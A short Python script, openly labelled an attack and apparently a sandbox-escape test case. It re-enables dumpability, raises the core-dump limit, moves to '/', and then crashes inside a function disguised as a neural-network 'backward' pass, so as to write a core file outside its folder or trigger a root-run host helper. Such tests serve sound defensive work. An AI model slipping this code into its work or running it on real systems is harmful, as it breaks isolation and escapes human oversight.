"""Attack: leave a core dump (a file outside its folder, or a host helper run as root): dumpable again, the
core limit raised, then SIGSEGV."""
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(4, 1, 0, 0, 0)   # PR_SET_DUMPABLE
try:
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("core limit raised")
except (ValueError, OSError) as exc:
    print("core limit held:", exc)
os.chdir("/")


def backward(weights, biases, activations, targets):
    ctypes.string_at(0)
